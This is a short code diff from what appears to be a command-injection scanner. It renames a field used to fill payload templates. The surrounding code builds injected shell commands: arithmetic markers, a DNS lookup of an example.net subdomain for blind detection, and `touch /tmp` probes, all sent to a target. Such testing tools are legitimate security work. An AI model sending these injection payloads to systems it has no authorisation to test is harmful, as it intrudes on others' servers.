@@ -108,7 +108,7 @@ def _computed(attack: Attack, way: str, frame: str, space: str) -> CheckResult |
     seen = []
     for _ in range(2):
         command, result = _command(space)
-        payload = frame.replace("{v}", attack.valid).replace("{x}", command)
+        payload = frame.replace("{v}", attack.brief).replace("{x}", command)
         reply = attack.send(payload)
         text = reply.text if result in reply.text else attack.stand.beside() if reply.outcome != "timeout" else ""
         if result not in text:
@@ -155,7 +155,7 @@ def _blind(attack: Attack, frame: str, ask: bool, again: bool = False) -> tuple[
     mark = f"q{a * b}"
     name = f"q$(({a}*{b})).{end}.example.net"
     command = "||".join(form.replace("{n}", name) for form in ASKING) if ask else f"touch /tmp/q$(({a}*{b}))"
-    payload = frame.replace("{v}", attack.valid).replace("{x}", command)
+    payload = frame.replace("{v}", attack.brief).replace("{x}", command)
     if not again:
         attack.hope(CHECK, mark, "anywhere", frame, lambda other: _blind_again(other, frame, ask))
     attack.send(payload)
